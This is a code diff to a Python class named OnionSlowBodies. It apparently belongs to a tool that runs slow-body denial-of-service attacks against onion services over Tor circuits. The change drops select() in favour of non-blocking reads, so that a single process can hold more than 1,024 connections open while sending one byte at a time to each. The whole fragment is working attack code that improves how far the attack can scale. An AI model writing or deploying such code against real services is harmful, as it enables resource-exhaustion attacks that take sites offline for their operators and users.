@@ -1082,8 +1082,6 @@ class OnionSlowBodies(Attack):
             self.spawn(self.run, slot)
 
     def run(self, slot: int) -> None:
-        import select
-
         assert self.circuits is not None
         held: list[socket.socket] = []
         try:
@@ -1100,11 +1098,14 @@ class OnionSlowBodies(Attack):
                         self.stop.wait(1.0)
                         break
                 self.stop.wait(2.0)
-                readable = select.select(held, [], [], 0)[0] if held else []
                 for s in list(held):
                     try:
-                        if s in readable and not s.recv(4096):
-                            raise OSError("cut")
+                        try:  # (no select(): this process holds more than 1,024 descriptors)
+                            if not s.recv(4096, socket.MSG_DONTWAIT):
+                                raise OSError("cut")
+                            raise OSError("answered")  # refused with a page: as good as cut
+                        except BlockingIOError:
+                            pass
                         s.send(b"x")
                         self.bytes_sent += 1
                     except OSError:
